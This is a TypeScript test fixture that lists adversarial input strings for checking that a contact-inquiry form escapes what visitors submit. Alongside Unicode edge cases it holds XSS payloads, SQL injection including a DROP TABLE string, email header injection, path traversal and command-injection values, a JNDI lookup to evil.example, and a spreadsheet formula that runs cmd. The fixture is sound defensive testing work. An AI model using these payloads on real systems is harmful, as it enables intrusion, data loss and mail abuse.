// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are other languages' templates.
import { limits } from '../../src/inquiry/limits.ts'

const words = (text: string) => text.trim().split(/ +|\n */)
const lines = (text: string) => text.trim().split(/\n */)
const inText = (characters: Iterable<string>) => [...characters].map((one) => `a${one}b`)
const range = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, index) => String.fromCodePoint(first + index))

/**
 * Texts that have broken forms, databases, mails or screens somewhere: characters by what they are,
 * and code by who runs it if nobody escapes it.
 */
export const hostileTexts: Record<string, string[]> = {
  controls: inText([...range(0, 0x1f), ...range(0x7f, 0x9f)]),
  surrogates: [
    ...inText(['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '😀\ud83d', '\ude00😀']),
    '\ud83d',
  ],
  whiteSpace: inText('\u00a0\u1680\u180e\u2000\u200a\u202f\u205f\u3000\u2028\u2029\ufeff\u2420'),
  invisible: [
    ...'\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u200b\u200c\u200d\u2060\u2064\u2800\u3164',
    ...'\ufe0f\uffa0\u{1d173}\u{e0001}\u{e0020}\u{e01ef}',
    ...[
      '\u200b\u2060 \u00ad\n\u3164',
      '',
      ' ',
      '\r\n\r\n',
      '\u3000\u2800',
      '\u2067\u202e',
      '\u0001',
    ],
  ],
  visibleAfterAll: ['\u200bx\u200b', '\u2800.\u2800', '\u00adé', '\ufeffx', 'x\u200d', '\u3164ㅏ'],
  bidirectional: [
    ...inText('\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'),
    ...['\u202egnp.exe', 'שלום עולם', 'مرحبا بالعالم 123 abc', '\u200ftest\u200f', '﷽'],
  ],
  nonCharacters: inText(['\ufdd0', '\ufffe', '\uffff', '\u{1ffff}', '\u{10fffe}\u{10ffff}']),
  unassigned: inText(['\u0378', '\ue000', '\uf8ff', '\u{f0000}', '\u{10fffd}', '\ufffd']),
  combining: words(
    'z̀̂̄a̐̒l̖̔g̘o e\u0301 é Å \u212b ﬁ ①②③ ｆｕｌｌ 𝕳𝖔𝖑𝖆 ǆ ß ẞ İıIi ſtop 각각 раураl.com аpple',
  ),
  scripts: words(`
    田中さんにあげて下さい 사회과학원 𠜎𠜱𠝹𠱓 Ṱ̺̺̕o͞ नमस्ते สวัสดีชาวโลก Γειά Привет გამარჯობა Բարեւ ሰላም ᚠᛇᚻ ⰀⰁⰂ 𐌰𐌱𐌲 𓀀𓂀 ꙮ
    ཨོཾ་མ་ཎི မင်္ဂလာပါ ᜀᜁᜂ ੧੨੩ ١٢٣ ⅠⅡⅢ ⁰⁴⁵₀₁₂ ˙ɐnbᴉlɐ ⒯⒣⒠ ÅÍÎÏ˝ÓÔ ¡™£¢∞§¶ 🁢🀄🂡 ♔♕♖ ￥€₿`),
  emoji: words(`
    😀 👩🏽 👨‍👩‍👧‍👦 👩‍🚀🧑🏿‍🦱 🏳️‍🌈🏴‍☠️ 🇨🇦🇯🇵 🇨 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ ❤︎ 1️⃣#️⃣ 👍🏻👍🏿 🏻 \u200d👩 👩\u200d 🫠🪿
    (╯°□°）╯︵┻━┻ ¯\\_(ツ)_/¯ ಠ_ಠ 😀😀😀😀😀😀😀😀😀`),
  lengths: [
    ...Object.values(limits).flatMap((limit) => [
      'x'.repeat(limit),
      'x'.repeat(limit + 1),
      '😀'.repeat(limit / 2 + 1),
      `${'é'.repeat(limit - 1)}😀`,
      ` ${'\n'.repeat(limit)}x`,
    ]),
    // The CRLF of a form post counts as one character.
    `x${'\r\nx'.repeat(499)}`,
    ...['\u0301'.repeat(500), '\n'.repeat(900), '&<>"\'`'.repeat(100)],
  ],
  html: [
    ...lines(`
      </script><script>alert(1)</script>
      <img src=x onerror=alert(1)>
      "><svg onload=alert(1)>
      ' autofocus onfocus='alert(1)
      </textarea><script>alert(1)</script>
      </title><b>
      <!--
      -->
      <![CDATA[x]]>
      <!DOCTYPE a [<!ENTITY x "y">]>&x;
      <a href="javascript:alert(1)">x</a>
      <base href=//evil.example>
      <style>*{display:none}</style>
      <plaintext>
      &lt;b&gt;&amp;amp;
      &#x3c;b&#62;
      &NotAnEntity;
      ＜script＞
      <scr<script>ipt>
      x</blockquote></bdi><h2>The visitor</h2>`),
    '<\u0000script>',
    '`${alert(1)}`',
  ],
  templates: [
    ...[
      '{{value}} {{error}} {{summary}} {{message}} {{field}}',
      '{{7*7}}',
      '${7*7}',
      '#{7*7}',
      '<%= 7*7 %>',
      '{% include %}',
    ],
    ...['$&', '$`', "$'", '$$', '$1', '$<name>', '\\1', '\\u0041', '\\x41', '\\0', '\\'],
  ],
  sql: [
    ...["'", "''", '"', "' OR 1=1 --", "'; DROP TABLE contact_inquiries; --", '$$; SELECT 1; $$'],
    ...["E'\\''", '\\.', '\\N', '{1,2}', '(1,"a")', "'::regclass", ':name', '?', '%s', "%' LIKE '"],
    ...["\\' OR 1=1 --", '\u02bc OR 1=1', '＇ OR 1=1', "{'$gt': ''}", '/* */', '--'],
  ],
  headers: [
    ...['x\r\nBcc: everyone@example.com', 'x\nBcc: y@example.com', 'x\rBcc: y@example.com'],
    ...['x%0d%0aSet-Cookie: a=b', 'x\r\n\r\n<html>', 'x\u2028Bcc: y', 'x\u0085Bcc: y'],
    ...['嘊嘍Set-Cookie: a=b', 'x\n.\nQUIT', '=?utf-8?B?eA==?=', 'x\n\nThe visitor\nName: Boss'],
  ],
  commands: [
    ...['../../etc/passwd', 'C:\\CON', 'file:///x', '%2e%2e%2f', '%00', '..', '$(touch /tmp/x)'],
    ...['`id`', '; ls', '| cat', '$HOME', '%PATH%', '--help', '%n%n%n', '%1$s', '{0}', '%', '+'],
    ...['&x=1', '${jndi:ldap://evil.example/a}'],
  ],
  spreadsheets: ['=1+1', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '\t=1+1', 'a,b;c\td'],
  json: ['{"name":"x"}', '[]', '"x"', '\\"', '","email":"evil@example.com', '\\ud800', '\\u0000'],
  words: words(`
    undefined null NULL nil None true FALSE NaN hasOwnProperty then toString valueOf toJSON
    constructor __proto__ prototype length name website [object Object] Scunthorpe O'Brien N/A 王`),
  numbers: words(`
    0 -1 1.00 $1.00 1/2 1E+02 -0 0..0 . 0,00 , 1,000,000 1'000.00 0xffffffff 0b11 1e309 Infinity
    9007199254740993 -2147483649 18446744073709551616 5e-324 1_000 １２３ −5 ½`),
}
